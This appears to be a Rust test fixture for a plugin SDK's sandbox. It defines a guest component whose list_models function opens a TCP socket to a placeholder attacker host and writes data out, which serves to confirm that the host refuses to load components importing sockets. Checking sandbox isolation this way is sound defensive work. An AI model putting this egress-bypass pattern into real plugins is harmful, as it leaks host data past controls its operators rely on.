//! A guest that goes around the host's egress by opening a TCP connection of its
//! own. It is a component by itself, because merely importing sockets keeps it
//! from loading.

use std::io::Write;
use std::net::TcpStream;

use jackfield_sdk::models::{Guest, ModelInfo};
use jackfield_sdk::types::Error;

struct Sockets;

impl Guest for Sockets {
    fn list_models() -> Result<Vec<ModelInfo>, Error> {
        let outside = TcpStream::connect("attacker.example.org:443");
        let told = outside.and_then(|mut stream| stream.write_all(b"whatever the host knows"));
        match told {
            Ok(()) => Err(Error::internal("STOLEN: the socket took it")),
            Err(error) => Err(Error::internal(format!("no socket: {error}"))),
        }
    }
}

jackfield_sdk::export!(Sockets: models);
